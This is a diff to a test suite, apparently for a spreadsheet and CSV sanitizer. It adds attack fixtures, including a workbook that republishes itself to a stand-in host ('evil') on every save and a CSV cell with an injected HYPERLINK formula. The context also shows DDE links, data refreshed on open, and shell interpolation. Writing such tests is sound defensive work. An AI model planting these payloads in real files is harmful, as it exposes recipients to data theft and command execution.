@@ -159,6 +159,9 @@ const workbooks: Attacks = {
       parts: { "xl/externalLinks/externalLink1.xml": ddeLink },
       overrides: { "/xl/externalLinks/externalLink1.xml": names.externalLinkType },
     }),
+    "a page that it publishes on a server whenever it is saved": xlsxWith({
+      content: '<webPublishItem id="1" destinationFile="\\\\evil\\a.htm" autoRepublish="1"/>',
+    }),
     "data that is fetched on opening": xlsxWith({
       parts: { "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>' },
       overrides: { "/xl/connections.xml": names.connectionsType },
@@ -236,6 +239,7 @@ describe("a table is read as spreadsheets read it:", () => {
     ["a declared separator of two characters", "sep=ab\n1,2"],
     ["a number before a word that could name a sheet", "a\n-2 tablet!"],
     ["blanks behind a closing quotation mark", '"a" ,b\n1,2'],
+    ["a link whose quotation marks are doubled", 'a,b\n"=HYPERLINK(""https://a.example"",""situs"")",1'],
     ["bars behind the first line", `a;b\nc|${shell};d`],
     ["nothing but a head like that of SYLK", "ID;Nama\n1;Siti"],
   ])("also with %s", async (_, content) => {
